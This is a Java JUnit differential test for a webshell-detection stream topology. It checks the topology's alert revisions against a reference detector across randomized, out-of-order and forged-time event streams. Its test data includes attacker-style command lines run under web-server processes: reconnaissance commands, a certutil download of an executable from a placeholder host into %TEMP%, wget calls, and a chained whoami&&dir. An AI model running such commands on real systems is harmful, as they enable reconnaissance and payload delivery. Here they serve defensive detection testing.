package dev.webshell.detector.topology;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.webshell.detector.event.InputDeserializer;
import dev.webshell.detector.event.InputFormat;
import dev.webshell.detector.event.Timestamps;
import dev.webshell.detector.rule.RuleSpec;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Random event streams — interleaved devices, near-misses, repeats, out-of-order and late events,
 * gaps around seven days — through the topology and through {@link ReferenceDetector}: the
 * revisions must be the same, field by field, in the same order. The wide runs ({@link
 * DifferentialStream}) add both profiles, upper-case and non-ASCII terms, every bound of the
 * README's "Bounds" table, events exactly on the seven-day boundaries, and the Avro and Streaming
 * API inputs, and assert a floor on counters of what they covered ({@link Coverage}).
 */
class DifferentialTest {
  @TempDir Path stateDir;

  static final String[] PARENTS = {
    "w3wp.exe",
    "W3WP.EXE",
    "tomcat8.exe",
    "Tomcat9w.exe",
    "httpd.exe",
    "beasvc.exe",
    "explorer.exe",
    "ws_TomcatService.exe",
    "services.exe",
    null
  };
  static final String[] FILES = {
    "cmd.exe", "CMD.EXE", "powershell.exe", "PowerShell.EXE", "pwsh.exe", "csc.exe", null
  };
  static final String[] LINES = {
    "cmd.exe /c whoami",
    "cmd /c whoami /all",
    "cmd /c ipconfig /all",
    "cmd /c ping -n 1 10.0.0.5",
    "cmd /c ping_sweep.bat",
    "cmd /c mapping.bat",
    "cmd /c certutil -urlcache -f http://x/a %TEMP%\\a.exe",
    "cmd /c copy a %temp%\\b",
    "powershell -c systeminfo",
    "cmd /c timeout /t 3",
    "cmd /c wget64 http://x",
    "cmd /c wget http://x",
    "cmd /c echo hello",
    "cmd /c pinger",
    "cmd /c \"whoami\"&&dir",
    null
  };

  @ParameterizedTest(name = "seed {0}")
  @ValueSource(longs = {1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12})
  void shouldEmitExactlyTheReferenceRevisions(long seed) {
    Random r = new Random(seed);
    int maxLines = seed % 3 == 0 ? 2 : 128;
    RuleSpec seedRule = RuleSpec.seed();
    RuleSpec rule = seedRule.withBounds(seedRule.lookback(), maxLines, 64, 4096);
    long day = 86_400_000_000L;
    // the detector's clock: somewhere inside the stream's months of event time, so that a part of
    // the stream is dated ahead of it; a few forged events are dated far ahead anywhere
    Instant clockNow = Ev.T0.plus(Duration.ofDays(20 + 15 * seed));
    Duration tolerance = Duration.ofMinutes(seed % 2 == 0 ? 15 : 0);
    long clockLimit = Timestamps.toMicros(clockNow.plus(tolerance));
    ReferenceDetector reference =
        new ReferenceDetector(rule.lookbackMicros(), maxLines, clockLimit);
    List<JsonNode> expected = new ArrayList<>();
    List<JsonNode> actual = new ArrayList<>();
    long now = Timestamps.toMicros(Ev.T0);
    int ahead = 0;
    try (TopologyHarness detector =
        new TopologyHarness(
            rule,
            stateDir,
            new InputDeserializer(InputFormat.AUTO, null),
            DetectorClock.fixedAt(clockNow, tolerance))) {
      for (int i = 0; i < 1500; i++) {
        int step = r.nextInt(100);
        if (step < 70) {
          now += (long) r.nextInt(3_600) * 1_000_000L; // up to an hour
        } else if (step < 80) {
          now += (long) (r.nextDouble() * 2 * day);
        } else if (step < 83) {
          now += 7 * day - r.nextInt(3) * 1_000_000L + r.nextInt(3) * 1_000_000L; // about 7 days
        }
        long ts = now;
        if (r.nextInt(10) == 0) {
          ts = now - (long) (r.nextDouble() * 9 * day); // out of order, sometimes too late
        } else if (r.nextInt(40) == 0) {
          ts = now + (long) (r.nextDouble() * 400 * day); // a wrong clock or a forged event
        }
        if (ts > clockLimit) {
          ahead++;
        }
        Ev e =
            Ev.atMicros(ts)
                .device("dev-" + r.nextInt(6))
                .name(r.nextInt(5) == 0 ? null : "host" + r.nextInt(3) + ".corp.example")
                .file(pick(r, FILES))
                .cmd(pick(r, LINES))
                .initiating(pick(r, PARENTS))
                .parent(pick(r, PARENTS))
                .report(r.nextInt(1000))
                .pid(r.nextInt(60000))
                .account(r.nextBoolean() ? "svc" : null);
        if (r.nextInt(4) != 0) {
          // mostly matching shells under web servers, so that windows fill up
          e.file("cmd.exe").initiating(r.nextBoolean() ? "w3wp.exe" : "tomcat8.exe");
          if (e.cmd == null || r.nextBoolean()) {
            e.cmd(LINES[r.nextInt(LINES.length - 1)]);
          }
        }
        expected.addAll(reference.process(e));
        actual.addAll(detector.send(e));
      }
      reference.finish().forEach(c -> expected.add(c.revision));
      actual.addAll(detector.flush());
    }
    assertEquals(expected.size(), actual.size(), "number of revisions");
    for (int i = 0; i < expected.size(); i++) {
      assertEquals(
          expected.get(i).toString(),
          ReferenceDetector.comparable(actual.get(i), expected.get(i)).toString(),
          "revision #" + i);
    }
    assertTrue(ahead > 0, "events dated ahead of the detector's clock");
    assertTrue(
        expected.stream().anyMatch(a -> "closed".equals(a.get("status").asText())),
        "closing revisions");
    assertTrue(
        expected.stream().anyMatch(a -> a.get("aheadOfClock").asBoolean()),
        "revisions marked ahead of the clock");
    System.out.printf(
        "seed %d: %d revisions checked, %d events ahead of the clock%n",
        seed, expected.size(), ahead);
  }

  @ParameterizedTest(name = "seed {0}")
  @ValueSource(longs = {101, 102, 103, 104, 105, 106})
  void shouldEmitTheReferenceRevisionsForBothProfilesPastEveryBound(long seed) {
    DifferentialRun run = DifferentialRun.of(seed);
    List<JsonNode> json = run.detect(stateDir, DifferentialRun.Input.FLAT_JSON);
    Coverage c = run.compare(json, "flat JSON");
    System.out.printf("seed %d %s:%n%s", seed, run.setup, c);
    run.assertCovered(c);
    record(seed, c);
  }

  @ParameterizedTest(name = "seed {0}")
  @ValueSource(longs = {201, 202})
  void shouldEmitTheSameRevisionsFromAvroAndStreamingApiInputAsFromFlatJson(long seed) {
    DifferentialRun run = DifferentialRun.of(seed);
    List<JsonNode> json = run.detect(stateDir.resolve("json"), DifferentialRun.Input.FLAT_JSON);
    List<JsonNode> avro = run.detect(stateDir.resolve("avro"), DifferentialRun.Input.AVRO);
    List<JsonNode> envelopes =
        run.detect(stateDir.resolve("envelopes"), DifferentialRun.Input.STREAMING_API);
    Coverage c = run.compare(json, "flat JSON");
    run.compare(avro, "Avro");
    run.compare(envelopes, "Streaming API");
    assertEquals(strings(json), strings(avro), "Avro revisions = flat JSON revisions");
    assertEquals(
        strings(json), strings(envelopes), "Streaming API revisions = flat JSON revisions");
    System.out.printf("seed %d %s (Avro and Streaming API alike):%n%s", seed, run.setup, c);
    run.assertCovered(c);
    record(seed, c);
  }

  private static List<String> strings(List<JsonNode> revisions) {
    return revisions.stream().map(JsonNode::toString).toList();
  }

  private static void record(long seed, Coverage c) {
    synchronized (RUNS) {
      TOTAL.addAll(c);
      RUNS.add(seed);
    }
  }

  /** What all the wide runs covered together. */
  static final Coverage TOTAL = new Coverage();

  static final Set<Long> RUNS = new TreeSet<>();

  static final List<Long> WIDE_SEEDS = List.of(101L, 102L, 103L, 104L, 105L, 106L, 201L, 202L);

  /**
   * All the wide runs together: a floor on every counter, about half of what the seeds reach today
   * (when only some seeds ran, as from an IDE, the totals are printed but not judged).
   */
  @AfterAll
  static void shouldHaveCoveredEveryPathOverAllSeeds() {
    System.out.printf("all wide runs %s:%n%s", RUNS, TOTAL);
    if (!RUNS.containsAll(WIDE_SEEDS)) {
      return;
    }
    Map<String, Integer> floors = new LinkedHashMap<>();
    floors.put(Coverage.REVISIONS, 1_000);
    floors.put(Coverage.CLOSED, 20);
    floors.put(Coverage.EXACT, 800);
    floors.put(Coverage.FOLDED, 30);
    floors.put(Coverage.OVERFLOWED, 60);
    floors.put(Coverage.APPROXIMATE, 25);
    floors.put(Coverage.APPROXIMATE_ABOVE, 20);
    floors.put(Coverage.CUT, 200);
    floors.put(Coverage.CUT_TWINS, 40);
    floors.put(Coverage.TRUNCATED, 150);
    floors.put(Coverage.AHEAD_REVISIONS, 50);
    floors.put(Coverage.NON_ASCII_MATCHES, 600);
    floors.put(Coverage.UPPER_MATCHES, 800);
    floors.put(Coverage.LONG_MATCHES, 200);
    floors.put(Coverage.AFTER_CUT, 30);
    floors.put(Coverage.HARDENED_ONLY, 800);
    floors.put(Coverage.AHEAD, 100);
    floors.put(Coverage.DROPPED, 100);
    floors.put(Coverage.ON_STREAM_TIME, 25);
    floors.put(Coverage.LATE, 30);
    floors.put(Coverage.ON_T, 30);
    floors.put(Coverage.INSIDE_T, 35);
    floors.put(Coverage.REOPEN, 20);
    floors.put(Coverage.UNTRACKED, 700);
    List<String> below =
        floors.entrySet().stream()
            .filter(f -> TOTAL.get(f.getKey()) < f.getValue())
            .map(f -> f.getKey() + " < " + f.getValue())
            .toList();
    assertTrue(below.isEmpty(), "over all seeds: " + below + "\n" + TOTAL);
  }

  private static String pick(Random r, String[] values) {
    return values[r.nextInt(values.length)];
  }

  static Duration unused() {
    return Duration.ZERO;
  }
}
